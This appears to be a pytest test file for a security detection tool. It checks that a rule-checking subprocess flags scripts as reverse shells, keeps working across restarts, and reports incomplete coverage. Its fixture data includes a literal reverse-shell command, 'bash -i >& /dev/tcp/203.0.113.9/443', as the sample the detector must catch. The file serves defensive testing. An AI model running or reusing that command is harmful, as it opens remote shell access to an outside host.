"""The process that asks the rules: it answers, it is replaced, and what it cannot answer is said."""

from __future__ import annotations

import os
import signal
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from hinomi.detect.catalogue import Catalogue, load_rules
from hinomi.detect.rowset import filled
from hinomi.flow.watching.answering import SETTLED
from hinomi.flow.watching.asking import PART, Rules
from hinomi.flow.watching.needing import KeptNeeds
from hinomi.model.findings import Coverage
from hinomi.model.tables import Row, table_of

SEEN = "2026-01-01T00:00:00+00:00"
SCRIPT = "/srv/x"


@pytest.fixture
def rules(tmp_path: Path) -> Iterator[Rules]:
    asked = Rules(load_rules(), (), tmp_path)
    yield asked
    asked.end()


def dropped(path: str) -> list[Row]:
    return [
        filled("files", {"path": path, "mode": 0o755}),
        filled("scripts", {"path": path}),
        filled(
            "script_actions",
            {
                "path": path,
                "action": "executes-code",
                "object": "download",
                "detail": "bash on /dev/tcp",
                "line": 2,
                "command": "bash -i >& /dev/tcp/203.0.113.9/443",
                "resolved": True,
            },
        ),
        filled(
            "script_actions",
            {
                "path": path,
                "action": "connects",
                "object": "203.0.113.9:443",
                "detail": "/dev/tcp",
                "line": 2,
                "command": "bash -i >& /dev/tcp/203.0.113.9/443",
                "resolved": True,
            },
        ),
    ]


def numbered(path: str, first: int) -> list[tuple[Row, int]]:
    return [(row, first + number) for number, row in enumerate(dropped(path))]


def ask(rules: Rules, rows: list[tuple[Row, int]], coverage: Coverage, run: str = "r") -> set[tuple[str, str]]:
    changed = {table_of(type(row)).name for row, _ in rows}
    found = rules.ask(rows, changed, run=run, seen=SEEN, coverage=coverage)
    return {(finding.rule_id, finding.subject_key) for finding in found}


def test_rows_stay_until_they_are_left_out(rules: Rules) -> None:
    coverage = Coverage()
    first = numbered(SCRIPT, 0)
    second = numbered("/srv/y", 2)
    assert ("reverse-shell-script", SCRIPT) in ask(rules, first, coverage)
    both = ask(rules, first + second, coverage)
    assert {("reverse-shell-script", SCRIPT), ("reverse-shell-script", "/srv/y")} <= both
    assert ("reverse-shell-script", SCRIPT) not in ask(rules, second, coverage)
    assert ("reverse-shell-script", SCRIPT) in ask(rules, first, coverage, run="the next"), "numbers begin anew"
    assert coverage.complete, coverage.to_json()


def test_rows_beyond_one_message_are_all_seen(rules: Rules) -> None:
    coverage, paths = Coverage(), [f"/srv/x{n}" for n in range(PART)]
    rows = [one for n, path in enumerate(paths) for one in numbered(path, n * len(dropped(path)))]
    assert {path for rule, path in ask(rules, rows, coverage) if rule == "reverse-shell-script"} == set(paths)
    assert coverage.complete, coverage.to_json()


def test_what_rules_need_is_found_out_beside_and_changes_no_answer(rules: Rules) -> None:
    coverage, rows = Coverage(), numbered(SCRIPT, 0)
    before = ask(rules, rows, coverage)
    while len(few := rules.about({"files"}, {"files"})) == len(rules.about({"files"}, load_everything())):
        time.sleep(0.2)  # it takes as long as it takes
        ask(rules, rows, coverage)
    assert ask(rules, rows, coverage) == before and "reverse-shell-script" not in few


def test_what_rules_need_is_known_at_the_next_start(tmp_path: Path) -> None:
    catalogue, coverage, rows = load_rules(), Coverage(), numbered(SCRIPT, 0)
    few = tuple(rule for rule in catalogue.of_kind("sql") if rule.id in ("reverse-shell-script", "watcher-tampered"))
    small = Catalogue(few)
    answers, known = [], []
    for _ in range(2):
        rules = Rules(small, (), tmp_path, KeptNeeds(tmp_path, few))
        known.append(rules.about({"files", "scripts", "script_actions"}, {"files"}))
        answers.append(ask(rules, rows, coverage))
        while "reverse-shell-script" in rules.about({"script_actions"}, {"files"}):
            ask(rules, rows, coverage)
        rules.end()
    assert "reverse-shell-script" in known[0] and "reverse-shell-script" not in known[1]
    assert answers[0] == answers[1] == {("reverse-shell-script", SCRIPT)} and coverage.complete


def load_everything() -> set[str]:
    """Every need there may be."""
    from hinomi.model.tables import TABLES

    return {*TABLES, *(f"script_actions.action={word}" for word in ("starts", "connects", "downloads"))}


def test_a_process_that_ends_costs_one_question_and_says_so(rules: Rules) -> None:
    coverage, rows = Coverage(), numbered(SCRIPT, 0)
    assert ask(rules, rows, coverage)
    os.kill(rules.pid, signal.SIGKILL)
    assert ask(rules, rows, coverage) == set() and not coverage.complete
    again = Coverage()
    assert ("reverse-shell-script", SCRIPT) in ask(rules, rows, again) and again.complete


def test_a_process_that_has_grown_is_replaced(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("hinomi.flow.watching.answering.GROWN", -(1 << 40))
    rules, coverage = Rules(load_rules(), (), tmp_path), Coverage()
    try:
        rows, before = numbered(SCRIPT, 0), rules.pid
        answers = []
        for _ in range(SETTLED + 2):
            answers.append(ask(rules, rows, coverage))
        assert rules.pid != before and len({frozenset(answer) for answer in answers}) == 1 and answers[0]
    finally:
        rules.end()
